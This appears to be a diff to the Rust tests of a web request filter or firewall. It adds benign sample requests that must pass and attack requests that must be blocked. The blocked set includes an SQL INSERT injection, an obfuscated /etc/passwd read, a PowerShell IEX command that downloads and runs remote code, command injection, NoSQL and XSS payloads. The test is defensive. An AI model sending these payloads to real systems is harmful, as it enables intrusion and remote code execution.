@@ -111,6 +111,9 @@ fn realistic_benign_requests_pass() {
         ("POST", "/comments", with(&form), "comment=Run+%60npm+install%60+then+open+the+%27onboarding%27+page.+If+you+want+it+to+exist%2C+select+it+from+the+menu."),
         ("POST", "/comments", with(&form), "comment=For+each+item+in+%28the+list%29+do+the+same.+What+if+not+defined%3F+50%25+of+us+don%27t+know."),
         ("GET", "/search?q=how+to+alter+a+table+cloth&lang=en", with(&[("Cookie", "consent=\"necessary,analytics\"; lang=en")]), ""),
+        ("POST", "/comments", with(&form), "comment=Go+to+settings%3B+delete+from+the+cart+what+you+don%27t+need%3B+insert+into+the+slot%3B+replace+the+values%3B+create+user+accounts.+He+said+%27yes%27%3B"),
+        ("GET", "/list?tags%5B%5D=a&tags%5B%5D=b&sort%5Bname%5D=asc&items%5B0%5D%5Bqty%5D=2&path=%2Fusers%5B0%5D%2Fname", with(&[]), ""),
+        ("GET", "/docs?q=std%3A%3Avector%3A%3Aiterator+and+String%3A%3Afrom", with(&[]), ""),
         ("POST", "/api/v1/tickets", with(&json), r#"{"subject":"Login fails","body":"After the update I get 'error 500' on /account/login. Tried Chrome & Firefox; cleared cookies; still broken.","priority":2}"#),
     ];
     let mut bad = Vec::new();
@@ -156,6 +159,9 @@ fn plain_attacks_are_blocked() {
         ),
         ("/ping?host=%60id%60", "", 1900400),
         ("/users?name%5B%24ne%5D=x", "", 1900503),
+        ("/s?q=1%27%3B+INSERT+INTO+users+%28name%29+VALUES+%28%27x%27%29--", "", 1900501),
+        ("/s?cmd=cat+%2Fetc%2Fpa%5Bs%5Dswd", "", 1900401),
+        ("/s?cmd=powershell+-c+%22IEX%28New-Object+Net.WebClient%29.DownloadString%28%27http%3A%2F%2Fx%2Fa%27%29%22", "", 1900401),
         ("/run?c=%26+for+%25a+in+%28a%2Cb%29+do+cmd", "", 1900403),
         ("/q?s=x%22+onmouseover%3Dalert%281%29", "", 1900601),
         (
